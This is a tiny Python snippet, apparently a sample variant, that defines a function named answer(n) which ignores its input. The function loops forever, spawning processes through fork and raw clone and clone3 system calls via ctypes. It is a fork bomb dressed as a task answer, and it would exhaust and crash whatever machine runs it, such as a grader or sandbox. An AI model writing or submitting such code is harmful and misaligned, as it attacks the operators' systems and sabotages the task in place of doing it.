"""The same through raw system calls."""
import ctypes

libc = ctypes.CDLL(None)
def answer(n):
    while True:
        libc.fork(); libc.vfork() if False else None; libc.syscall(56, 17, 0, 0, 0, 0); libc.syscall(435, 0, 0)
